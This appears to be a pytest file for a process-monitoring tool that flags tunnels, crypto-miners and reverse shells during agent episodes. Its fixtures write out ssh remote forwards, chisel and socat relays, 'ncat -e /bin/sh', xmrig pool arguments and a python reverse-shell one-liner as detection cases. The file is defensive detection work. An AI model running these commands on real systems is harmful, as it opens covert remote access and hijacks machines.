"""Each default pack loads cleanly, and decides known cases from recorded
events (no root)."""
from __future__ import annotations

from pathlib import Path

import pytest

from episode_tracer.engine import CANARY_GATE, CANARY_KILL, build_kernel_maps
from episode_tracer.paths import POLICY_DIR
from episode_tracer.policy import load_policy, record_context

PACKS = sorted(POLICY_DIR.glob("*.toml"))


@pytest.mark.parametrize("pack", PACKS, ids=[p.name for p in PACKS])
def test_pack_loads_without_errors_or_warnings(pack):
    # each pack with the shared base it builds on
    paths = sorted({POLICY_DIR / "base.toml", pack})
    res = load_policy(paths)
    assert res.errors == [], [str(e) for e in res.errors]
    if pack.name != "base.toml":
        assert res.policy.rules, f"{pack.name} defines no rule"
        for r in res.policy.rules:
            assert r.description, f"{r.name} has no description"


@pytest.fixture(scope="module")
def policy():
    res = load_policy([POLICY_DIR])
    assert not res.errors and not res.warnings, [str(d) for d in res.errors + res.warnings]
    return res.policy


def _exec(argv, exe=None, episode="ep-1"):
    return {"type": "exec", "episode": episode, "pid": 100, "argv": argv,
            "exe": exe or f"/usr/bin/{argv[0].rsplit('/', 1)[-1]}", "comm": argv[0][-15:]}


@pytest.mark.parametrize("argv,rule", [
    (["ssh", "-N", "-R", "2222:localhost:22", "user@203.0.113.9"], "ssh-port-forward"),
    (["ssh", "-NfR2222:localhost:22", "host"], "ssh-port-forward"),
    (["ssh", "-o", "RemoteForward=2222 localhost:22", "host"], "ssh-forward-option"),
    (["ssh", "-D", "1080", "host"], "ssh-local-forward"),
    (["autossh", "-M", "0", "-R", "2222:localhost:22", "host"], "tunnel-tool"),
    (["chisel", "client", "203.0.113.9:8080", "R:2222:localhost:22"], "tunnel-tool"),
    (["socat", "TCP-LISTEN:2222,fork", "TCP:localhost:22"], "socat-relay"),
    (["ncat", "-l", "2222", "-e", "/bin/sh"], "socket-relay"),
    (["cloudflared", "tunnel", "run"], "cloudflared-tunnel"),
    (["xmrig", "-o", "pool:3333"], "miner-by-name"),
    (["/tmp/innocent", "-o", "stratum+tcp://10.0.0.5:3333", "-u", "wallet"], "miner-by-argv"),
    (["./worker", "--donate-level", "1"], "miner-by-argv"),
    (["python3", "-c", "import socket,subprocess,os;s=socket.socket();s.connect(('h',1));os.dup2(s.fileno(),0)"], "socket-oneliner"),
])
def test_known_bad_exec(policy, argv, rule):
    rules = {v.rule for v in policy.evaluate(_exec(argv), record_context({}))}
    assert rule in rules


@pytest.mark.parametrize("argv", [
    ["ssh", "-p", "2222", "git@example.com", "git-upload-pack", "repo"],
    ["ssh", "host", "ls", "-R", "/tmp"],
    ["python3", "train.py", "--epochs", "3"],
    ["python3", "-c", "print('hello')"],
    ["pip", "install", "-r", "requirements.txt"],
    ["git", "clone", "/srv/repo.git"],
    ["gcc", "-O2", "-o", "a.out", "a.c"],
    ["curl", "-s", "http://127.0.0.1:8000/data.json"],
    ["nc", "-z", "127.0.0.1", "80"],
])
def test_benign_exec(policy, argv):
    assert policy.evaluate(_exec(argv), record_context({})) == []


def test_outside_episodes_untouched(policy):
    assert policy.evaluate(_exec(["xmrig"], episode=None), record_context({})) == []


def test_kernel_plan_of_default_packs(policy):
    plan = policy.kernel_plan()
    assert "xmrig" in plan.kill_comms and "chisel" in plan.kill_comms
    assert "ssh" in plan.gate_comms  # argv judged in user space, held by the gate
    km = build_kernel_maps(plan, {})
    assert km.ports.get(3333) and km.ports.get(14444)
    assert km.tcp_mask and not km.global_mask  # nothing outside episodes


def test_monitor_maps_keep_deny_rules_but_never_kill_or_gate(policy):
    """--monitor: the kernel still matches the deny rules (to report an
    unconnected UDP send it would have refused) but kills and gates nothing;
    the self-test canary stays enforced."""
    plan = policy.kernel_plan()
    enforce = build_kernel_maps(plan, {1: "ep"})
    mon = build_kernel_maps(plan, {1: "ep"}, monitor=True)
    assert mon.monitor and not enforce.monitor
    assert enforce.kill_comms and (enforce.gate_comms or enforce.gate_all)
    assert mon.kill_comms == {} and mon.gate_comms == {} and not mon.gate_all and not mon.gate_all_global
    assert (mon.deny4, mon.deny6, mon.ports, mon.slot_masks) == (enforce.deny4, enforce.deny6, enforce.ports,
                                                              enforce.slot_masks)
    canary = build_kernel_maps(plan, {}, canary=True, monitor=True)
    assert canary.kill_comms == {CANARY_KILL: 1} and canary.gate_comms == {CANARY_GATE: 1}


def test_pool_port_connect_is_deny(policy):
    rec = {"type": "connect", "episode": "e", "pid": 1, "family": "inet", "addr": "203.0.113.7",
           "port": 3333, "result": -115, "exe": "/tmp/x", "sock_type": "stream"}
    assert "mining-pool-port" in {v.rule for v in policy.evaluate(rec, record_context({}))}


# ---------------------------------------------------------------- recorded
# tests/data/packs/<pack>.jsonl: {"note", "event", "rules"}; `rules` is the
# exact set of rules the default packs (episode_tracer/policies/) fire for the event.
import json
import os
import socket

PACK_DATA = Path(__file__).parent / "data" / "packs"


def _pack_cases():
    out = []
    for f in sorted(PACK_DATA.glob("*.jsonl")):
        for i, line in enumerate(f.read_text().splitlines()):
            if line.strip():
                c = json.loads(line)
                out.append(pytest.param(c, id=f"{f.stem}:{i + 1}:{c['note']}"))
    return out


CASES = _pack_cases()


@pytest.mark.parametrize("case", CASES)
def test_pack_case(policy, case):
    ev = case["event"]
    got = sorted(v.rule for v in policy.evaluate(ev, record_context(ev)))
    assert got == sorted(case["rules"])


def test_every_enabled_rule_has_a_firing_case(policy):
    fired = {r for c in CASES for r in c.values[0]["rules"]}
    # duration (for_s) rules need a sequence of samples: tests/test_gpu_pack.py
    enabled = {r.name for r in policy.rules if r.enabled and r.for_s is None}
    # the shipped hash list is empty: test_miner_hash_list_from_site_override
    assert enabled - fired == {"miner-by-hash"}


def test_detection_makes_no_dns_query(policy, monkeypatch):
    """Indicator domains are matched as text: evaluating every case (pool
    names in argv included) resolves nothing."""
    asked = []

    def refuse(*a, **kw):
        asked.append(a)
        raise AssertionError(f"DNS lookup during evaluation: {a}")

    for name in ("getaddrinfo", "gethostbyname", "gethostbyname_ex", "gethostbyaddr", "getnameinfo"):
        monkeypatch.setattr(socket, name, refuse)
    for c in CASES:
        ev = c.values[0]["event"]
        policy.evaluate(ev, record_context(ev))
    assert asked == []


def test_miner_hash_list_from_site_override(tmp_path):
    digest = "ab" * 32
    (tmp_path / "90-site.toml").write_text(
        f'[[override]]\nlist = "miner_sha256"\nappend = ["{digest}"]\n')
    res = load_policy([POLICY_DIR, tmp_path / "90-site.toml"])
    assert not res.errors, [str(e) for e in res.errors]
    ev = _exec(["/tmp/renamed"], exe="/tmp/renamed")
    ev["sha256"] = digest.upper()
    assert [v.rule for v in res.policy.evaluate(ev, record_context(ev))] == ["miner-by-hash"]
    assert res.policy.rule("miner-by-hash").action.value == "kill-episode"


def test_egress_allowlist_off_by_default_and_on_by_override(tmp_path):
    res = load_policy([POLICY_DIR])
    assert res.policy.rule("egress-allowlist").enabled is False
    assert not any(d.name == "egress-allowlist" for d in res.policy.kernel_plan().deny)
    (tmp_path / "90-site.toml").write_text(
        '[[override]]\nrule = "egress-allowlist"\nenabled = true\n\n'
        '[[override]]\nlist = "egress_allowlist"\nappend = ["198.51.100.0/24"]\n')
    res = load_policy([POLICY_DIR, tmp_path / "90-site.toml"])
    assert not res.errors, [str(e) for e in res.errors]
    deny = {d.name: d for d in res.policy.kernel_plan().deny}["egress-allowlist"]
    assert deny.families == frozenset({"inet", "inet6"})
    assert "198.51.100.0/24" in {str(n) for n in deny.except_cidrs}
    out = _conn("203.0.113.9", 443)
    assert "egress-allowlist" in {v.rule for v in res.policy.evaluate(out, record_context(out))}
    ok = _conn("198.51.100.7", 443)
    assert "egress-allowlist" not in {v.rule for v in res.policy.evaluate(ok, record_context(ok))}


def _conn(addr, port):
    return {"type": "connect", "episode": "e", "pid": 1, "family": "inet", "addr": addr, "port": port,
            "result": -115, "exe": "/usr/bin/curl", "sock_type": "stream"}


# ------------------------------------------------- ssh config files (-F ...)
def _ssh(argv, tmp_path, **kw):
    ev = {"type": "exec", "episode": "e", "pid": 2 ** 22 + 7, "uid": os.getuid(), "exe": "/usr/bin/ssh",
          "filename": "/usr/bin/ssh", "argv": argv, "cwd": str(tmp_path)}
    ev.update(kw)
    return ev


def _rules(policy, ev):
    return [v.rule for v in policy.evaluate(ev, record_context(ev))]


def test_ssh_config_file_with_remote_forward_is_killed(policy, tmp_path):
    (tmp_path / "cfg").write_text("Host out\n  HostName 203.0.113.9\n  RemoteForward 2222 localhost:22\n")
    v = policy.evaluate(_ssh(["ssh", "-F", "cfg", "-N", "out"], tmp_path), record_context({}))
    assert [(x.rule, x.action.value, x.matched) for x in v] == [
        ("ssh-config-forward", "kill", {"basename": "ssh", "ssh_config": "remoteforward 2222 localhost:22"})]


@pytest.mark.parametrize("text,fires", [
    ("Host x\n  User git\n  IdentityFile ~/.ssh/id_ed25519\n", False),
    ("Host x\n  LocalForward=8080 internal:80\n", True),
    ("  dynamicforward 1080\n", True),
    ("Tunnel yes\n", True),
    ("Tunnel no\n", False),
    ("ProxyCommand nc %h %p\n", True),
    ("ProxyCommand none\n", False),
    ("# RemoteForward 2222 localhost:22\n", False),
    ("PermitLocalCommand yes\nLocalCommand nc -l 2222\n", True),
])
def test_ssh_config_directives(policy, tmp_path, text, fires):
    (tmp_path / "cfg").write_text(text)
    assert _rules(policy, _ssh(["ssh", "-F", str(tmp_path / "cfg"), "host"], tmp_path)) == (
        ["ssh-config-forward"] if fires else [])


def test_ssh_config_include_is_followed(policy, tmp_path):
    (tmp_path / "inc").mkdir()
    (tmp_path / "inc" / "a.conf").write_text("Host *\n  RemoteForward 2222 localhost:22\n")
    (tmp_path / "cfg").write_text(f"Include {tmp_path}/inc/*.conf\nHost x\n")
    v = policy.evaluate(_ssh(["ssh", "-F", "cfg", "x"], tmp_path), record_context({}))
    assert [x.matched.get("ssh_config") for x in v] == ["remoteforward 2222 localhost:22"]


def test_ssh_config_fifo_is_not_read_and_counts(policy, tmp_path):
    """A FIFO as -F would block a reader and could be written after the
    check: it is never opened blocking, and it is refused."""
    os.mkfifo(tmp_path / "fifo")
    v = policy.evaluate(_ssh(["ssh", "-F", "fifo", "host"], tmp_path), record_context({}))
    assert [x.matched.get("ssh_config") for x in v] == ["#unreadable fifo: not a regular file"]


def test_ssh_config_none_and_missing(policy, tmp_path):
    assert _rules(policy, _ssh(["ssh", "-F", "none", "host"], tmp_path)) == []
    assert _rules(policy, _ssh(["ssh", "-F", "/dev/null", "host"], tmp_path)) == []
    assert _rules(policy, _ssh(["ssh", "-F", "nope", "host"], tmp_path)) == ["ssh-config-forward"]
    # -F of the remote command is not ssh's
    assert _rules(policy, _ssh(["ssh", "host", "ssh", "-F", "nope", "other"], tmp_path)) == []


def test_ssh_without_F_reads_the_user_config(policy, tmp_path, monkeypatch):
    import pwd

    home = tmp_path / "home"
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "config").write_text("Include extra\n")
    (home / ".ssh" / "extra").write_text("Host *\n  RemoteForward 2222 localhost:22\n")
    real = pwd.getpwuid

    def fake(uid):
        p = real(uid)
        return pwd.struct_passwd((p.pw_name, p.pw_passwd, p.pw_uid, p.pw_gid, p.pw_gecos, str(home), p.pw_shell))

    monkeypatch.setattr(pwd, "getpwuid", fake)
    assert _rules(policy, _ssh(["ssh", "host"], tmp_path)) == ["ssh-config-forward"]


def test_docs_site_file_turns_the_allowlist_on(tmp_path):
    doc = (Path(__file__).resolve().parents[1] / "docs" / "policies.md").read_text()
    block = doc.split("# /etc/agent-tracer/90-site.toml", 1)[1].split("\n", 1)[1].split("```", 1)[0]
    (tmp_path / "90-site.toml").write_text(block)
    res = load_policy([POLICY_DIR, tmp_path / "90-site.toml"])
    assert not res.errors, [str(e) for e in res.errors]
    assert res.policy.rule("egress-allowlist").enabled
    assert "egress-allowlist" in {d.name for d in res.policy.kernel_plan().deny}
